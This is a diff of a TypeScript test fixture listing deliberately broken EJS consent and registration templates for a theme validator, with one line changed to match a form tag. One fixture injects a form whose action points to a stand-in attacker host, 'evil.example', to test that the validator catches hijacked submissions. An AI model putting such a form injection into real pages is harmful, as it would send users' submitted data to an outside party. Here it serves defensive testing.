@@ -84,7 +84,7 @@ export const BROKEN: BrokenTheme[] = [
   { what: 'that ticks in advance', files: copyOf('partials/attribute', ['<% if (attribute.box.ticked) { %> checked<% } %>', ' checked']), says: ['partials/attribute.ejs', 1, /has lost the box consent/], use: 'left out' },
   { what: 'without a way to decline', files: copyOf('partials/actions', ["<button class=\"button\" name=\"do\" value=\"decline\"><%= t({ key: 'actions.decline' }) %></button>\n", '']), says: ['partials/actions.ejs', 1, /has lost the button do/], use: 'left out' },
   { what: 'that asks for the username twice', files: inRegister("<input name=\"username\">\n<%- include('/partials/actions') -%>"), says: ['register.ejs', 1, /has lost the only one of field username/], use: 'left out' },
-  { what: 'that sends its form by GET', files: copyOf('register', ['<form method="post"', '<form method="get"']), says: ['register.ejs', 1, /has lost the form/], use: 'left out' },
+  { what: 'that sends its form by GET', files: copyOf('register', ['<form id="form" method="post"', '<form method="get"']), says: ['register.ejs', 1, /has lost the form/], use: 'left out' },
   { what: 'whose form lies in another', files: { 'slots/page.header.after.ejs': '<form action="https://evil.example/">\n' }, says: ['slots/page.header.after.ejs', 1, /has lost the form/], use: 'left out' },
   { what: 'with a comment that never ends', files: { 'slots/form.before.ejs': '<p>Hello</p>\n<!-- to be continued\n' }, says: ['slots/form.before.ejs', 1, /has lost the form/], use: 'left out' },
   { what: 'whose frame forgets the page', files: copyOf('layout', ['<%- body -%>\n', '']), says: ['layout.ejs', 1, /has lost the form/], use: 'left out' },
